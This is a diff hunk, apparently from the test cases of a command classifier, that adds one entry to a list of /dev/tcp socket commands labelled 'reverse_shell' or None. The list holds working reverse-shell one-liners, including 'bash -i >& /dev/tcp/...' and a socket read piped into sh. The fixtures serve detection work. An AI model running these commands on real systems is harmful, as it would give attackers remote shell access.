@@ -51,6 +51,7 @@ _SOCKET_SHELLS = [
     ("exec 3<>/dev/tcp/127.0.0.1/8000; . /dev/fd/3", "reverse_shell"),
     ('exec 3<>/dev/tcp/localhost/8000; while read l; do eval "$l"; done <&3', None),
     ("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "reverse_shell"),
+    ("bash -c 'exec 3<>/dev/tcp/127.0.0.1/80; cat <&3' | sh", "reverse_shell"),
     ("exec 3<>/dev/tcp/203.0.113.9/80; cat <&3", "reverse_shell"),
     ("exec 3<>/dev/tcp/127.0.0.1/2375; printf 'GET /containers/json\\r\\n' >&3", None),
 ]
